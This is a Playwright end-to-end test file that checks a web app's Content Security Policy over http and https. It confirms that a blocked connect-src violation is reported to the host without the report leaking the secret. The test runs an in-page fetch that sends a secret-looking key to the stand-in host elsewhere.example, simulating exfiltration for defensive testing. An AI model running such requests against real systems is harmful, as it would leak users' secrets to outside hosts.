import { makeTestCertificate } from '#host/certificate.fixture.ts'

import { expect, test } from '#e2e/support/fixtures.ts'

test.use({ ignoreHTTPSErrors: true })

for (const scheme of ['http', 'https'] as const) {
  test(`over ${scheme} the host learns what the policy has stopped, and where it pointed to`, async ({
    page,
    startOwnHost,
    expectConsole,
  }) => {
    const host = await startOwnHost(scheme === 'https' ? { tls: makeTestCertificate() } : {})
    expectConsole(/securitypolicyviolation connect-src https:\/\/elsewhere\.example/)
    expectConsole(/console error: .*elsewhere\.example.*Content Security Policy/)
    await page.goto(`${host.origin}/tasks`)
    await expect(page.getByRole('button', { name: 'Connect', exact: true })).toBeVisible()
    await page.evaluate(() => {
      void fetch('https://elsewhere.example/a?key=S3CRET').catch(() => undefined)
    })
    await expect.poll(() => host.log()).toContain('"directive":"connect-src"')
    expect(host.log()).toContain('"blocked":"https://elsewhere.example"')
    expect(host.log()).not.toContain('S3CRET')
  })
}
